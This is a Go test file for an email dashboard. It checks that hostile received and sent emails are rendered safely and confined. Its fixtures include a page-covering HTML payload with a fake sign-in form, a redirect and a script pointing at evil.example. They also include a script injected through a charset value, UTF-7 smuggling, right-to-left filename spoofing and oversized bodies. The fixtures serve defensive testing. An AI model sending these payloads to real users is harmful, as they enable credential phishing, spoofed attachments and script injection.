package dashboard_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"regexp"
	"runtime"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/postrider/postrider/internal/accounts/teams"
	"github.com/postrider/postrider/internal/lib/visible"
	"github.com/postrider/postrider/internal/mail/mailparse"
	"github.com/postrider/postrider/internal/mail/message"
	"github.com/postrider/postrider/internal/sending/emails"
)

const (
	rightToLeft = "\u202e" // displays what follows from right to left
	isolate     = "\u2066"
	coverAll    = `<style>*{position:fixed!important;inset:0;z-index:2147483647;width:100vw}</style>` +
		`<base target="_top" href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">` +
		`<div style="position:fixed;inset:0;background:url(https://evil.example/seen)">Sign in again</div>` +
		`<form action="https://evil.example/"><input name="password"></form>` +
		`<script>top.location="https://evil.example/"</script>`
)

// asItIs matches the parts of a page that contain a text of the email as it is.
var asItIs = regexp.MustCompile(`(?s)<pre[ >].*?</pre>|<textarea.*?</textarea>|<input [^>]*>`)

// hostilePage requests a page and checks that it is a whole page in little memory, that the email is text in
// it, and that no invisible character changes what a person reads.
func (v *visitor) hostilePage(path string) string {
	v.t.Helper()
	const mostMemory = 400 << 20
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	begun := time.Now()
	w, page := v.exchange(http.MethodGet, path, nil)
	took := time.Since(begun)
	runtime.ReadMemStats(&after)
	if w.StatusCode != 200 || after.TotalAlloc-before.TotalAlloc > mostMemory || len(page) > 4<<20 {
		v.t.Errorf("%s: %d after %s, %d MB allocated, %d bytes\n%.2000s", path, w.StatusCode, took,
			(after.TotalAlloc-before.TotalAlloc)>>20, len(page), page)
	}
	if testing.Verbose() {
		v.t.Logf("%s: %s, %d MB allocated, %d KB", path, took, (after.TotalAlloc-before.TotalAlloc)>>20, len(page)>>10)
	}
	if !utf8.ValidString(page) || strings.Contains(page, "\x00") || !strings.HasSuffix(page, "</html>\n") {
		v.t.Errorf("%s is not UTF-8, or is cut: %q", path, page[max(0, len(page)-200):])
	}
	shown := asItIs.ReplaceAllString(page, "")
	if i := strings.IndexFunc(shown, visible.Hidden); i >= 0 {
		v.t.Errorf("%s has the invisible character %U in %q", path, []rune(shown[i:])[0],
			shown[max(0, i-200):min(len(shown), i+50)])
	}
	for _, tag := range []string{"<base", "evil.example/\"", "<script>", `http-equiv="refresh"`, "position:fixed"} {
		if strings.Contains(shown, tag) {
			v.t.Errorf("%s contains %s outside of text", path, tag)
		}
	}
	return page
}

// hostileFrame requests the frame of an email and checks that its headers confine it.
func (v *visitor) hostileFrame(path string) string {
	v.t.Helper()
	w, html := v.exchange(http.MethodGet, path+"/html", nil)
	policy := w.Header.Get("Content-Security-Policy")
	if w.StatusCode != 200 || policy != "sandbox; default-src 'none'; "+
		"style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'; frame-ancestors 'self'" ||
		w.Header.Get("Content-Type") != "text/html; charset=utf-8" || len(html) > 6<<20 {
		v.t.Errorf("%s/html: %d with %d bytes and %q", path, w.StatusCode, len(html), policy)
	}
	return html
}

func hostileMessages() map[string]string {
	var many strings.Builder
	for i := range 10_000 {
		fmt.Fprintf(&many, " Person %d <person%d@recipients.example>,\n", i, i)
	}
	const head = "From: maja@fjordlabs.example\nTo: support@acme.example\nMIME-Version: 1.0\n"
	return map[string]string{
		"recipients": "From: maja@fjordlabs.example\nTo: support@acme.example,\n" + many.String() +
			" last@recipients.example\nSubject: Many\n\nHello\n",
		"copies": head + "Cc:" + strings.TrimSuffix(many.String(), ",\n") + "\nSubject: Many copies\n\nHello\n",
		"names": "From: " + rightToLeft + "moc.knab" + isolate + " =?utf-8?Q?=E2=80=AEgro.laer?= <maja@fjordlabs.example>\n" +
			"To: support@acme.example, \"" + rightToLeft + "x\" <y@acme.example>\n" +
			"Reply-To: =?utf-8?Q?=E2=80=AE?= <evil@fjordlabs.example>\n" +
			"Subject: " + rightToLeft + "fdp.exe \u05e9\u05dc\u05d5\u05dd =?utf-8?B?4oGm?=\nMIME-Version: 1.0\n" +
			"X-Odd: " + rightToLeft + "\nContent-Type: multipart/mixed; boundary=x\n\n" +
			"--x\nContent-Type: text/plain; charset=utf-8\n\n" + rightToLeft + "text\n" +
			"--x\nContent-Type: text/html; charset=utf-8\n\n<p>\u05e9\u05dc\u05d5\u05dd" + rightToLeft + "</p>\n" +
			"--x\nContent-Type: application/pdf\n" +
			"Content-Disposition: attachment; filename*=utf-8''a%E2%80%AEfdp.exe\n\nx\n--x--\n",
		"charsets": "From: =?no-such-charset?Q?=FF=FE?= <maja@fjordlabs.example>\nTo: support@acme.example\n" +
			"Subject: \xff\xfe =?utf-8?B?/////w==?= =?iso-2022-jp?B?GyRC?= =?utf-16?B?3AA=?= =?utf-8?Q?a=00b?=\n" +
			"MIME-Version: 1.0\nContent-Type: multipart/alternative; boundary=x\n\n" +
			"--x\nContent-Type: text/plain; charset=utf-16\n\nplain \xff\x00\xd8\n" +
			"--x\nContent-Type: text/html; charset=\"x'><script>alert(1)</script>\"\n\n<p>\xe4\xf6 \xff\xfe \x00</p>\n--x--\n",
		"declared": head + "Subject: Wrong\nContent-Type: text/html; charset=utf-8\n\n" +
			"<meta charset=\"utf-7\"><p>+ADw-script+AD4-\xe4\xf6\xfc</p>\n",
		"large": head + "Subject: Large\nContent-Type: text/html\n\n" + strings.Repeat("<div><p>Hello</p>\n", 30<<20/18),
		"line":  head + "Subject: Long\nContent-Type: text/html\n\n" + strings.Repeat("<b>", 1<<20),
		"cover": head + "Subject: " + strings.Repeat("W", 900) + "\nContent-Type: text/html\n\n" + coverAll + "\n",
	}
}

// Hostile mail is shown safely, or a sentence says why it is not: ten thousand recipients, broken and wrong charsets,
// characters that change the direction of text, 30 MB of HTML, and styles and forms that cover the page.
func TestHostileReceivedEmails(t *testing.T) {
	each(t, func(t *testing.T, b *board) {
		v := b.visitor(teams.Member)
		for name, text := range hostileMessages() {
			id := b.receive(text)
			at := "/app/receiving/" + id
			page := v.hostilePage(at)
			v.hostilePage("/app/receiving")
			v.hostilePage("/app/search?q=maja")
			v.hostilePage(at + "/reply?all=1")
			v.hostilePage(at + "/forward")
			if strings.Contains(page, at+"/html") {
				html := v.hostileFrame(at)
				if name == "large" && !strings.Contains(html, "which is too large to be shown. Download it") {
					t.Errorf("the frame of 30 MB says %.300s", html)
				}
			} else if name != "recipients" && name != "copies" {
				t.Errorf("%s has no frame", name)
			}
		}
	})
}

// The same for sent emails: those of the API, and messages that a program submitted as they are.
func TestHostileSentEmails(t *testing.T) {
	each(t, func(t *testing.T, b *board) {
		v := b.visitor(teams.Member)
		send := func(email map[string]any) string {
			t.Helper()
			var body strings.Builder
			e := json.NewEncoder(&body)
			e.SetEscapeHTML(false) // 30 MB of HTML stay below the limit on requests
			b.must(e.Encode(email))
			return b.api("POST", "/emails", body.String())["id"].(string)
		}
		var fifty []string
		for i := range 50 {
			fifty = append(fifty, fmt.Sprintf("\"%s%d\" <person%d@recipients.example>", rightToLeft, i, i))
		}
		ids := map[string]string{
			"names": send(map[string]any{"from": "\"\u05e9\u05dc\u05d5\u05dd\" <billing@acme.example>", "to": fifty,
				"subject": rightToLeft + "fdp.exe" + isolate, "text": rightToLeft + "text", "html": "<p>" + rightToLeft + "</p>",
				"reply_to": "\"" + rightToLeft + "\" <a@acme.example>", "headers": map[string]string{"X-Odd": rightToLeft},
				"tags":        []map[string]string{{"name": "type", "value": "x"}},
				"attachments": []map[string]string{{"filename": "a" + rightToLeft + "fdp.txt", "content": "eA=="}}}),
			"large": send(map[string]any{"from": "billing@acme.example", "to": "a@recipients.example", "subject": "Large",
				"html": strings.Repeat("<div><p>Hello</p>\n", 30<<20/18)}),
			"cover": send(map[string]any{"from": "billing@acme.example", "to": "a@recipients.example",
				"subject": strings.Repeat("W", 900), "html": coverAll}),
		}
		raw := strings.NewReplacer("maja@fjordlabs.example", "billing@acme.example", "\n", "\r\n", "\x00", "").
			Replace(hostileMessages()["charsets"])
		header, body, _ := strings.Cut(raw, "\r\n\r\n")
		p := mailparse.Parse([]byte(raw))
		in := emails.Raw{Recipients: []message.Address{{Local: "a", Domain: "recipients.example"}},
			Header: []byte(header + "\r\n"), Body: []byte("\r\n" + body), Trace: "by mx.test with ESMTPA"}
		in.From, in.To, in.Subject = "billing@acme.example", []string{"support@acme.example"}, p.Subject
		in.HTML, in.Text = new(p.HTML()), new(p.Text())
		id, err := b.Emails.SendRaw(t.Context(), b.acme, in, emails.Idempotency{})
		b.must(err)
		ids["charsets"] = id
		for name, id := range ids {
			at := "/app/emails/" + id
			page := v.hostilePage(at)
			for _, view := range []string{"preview", "text", "source", "headers", "raw", "attachments"} {
				page := v.hostilePage(at + "?checks=all&view=" + view)
				if name == "large" && (view == "text" || view == "source") && !strings.Contains(page, "too large for this page") {
					t.Errorf("%s does not say that the email is too large", view)
				}
			}
			v.hostilePage("/app/emails")
			v.hostilePage("/app/emails/new?again=" + id)
			if !strings.Contains(page, at+"/html") {
				t.Errorf("%s has no frame\n%s", name, page)
			} else if html := v.hostileFrame(at); name == "large" && !strings.Contains(html, "Download it") {
				t.Errorf("the frame of 30 MB says %.300s", html)
			}
		}
	})
}
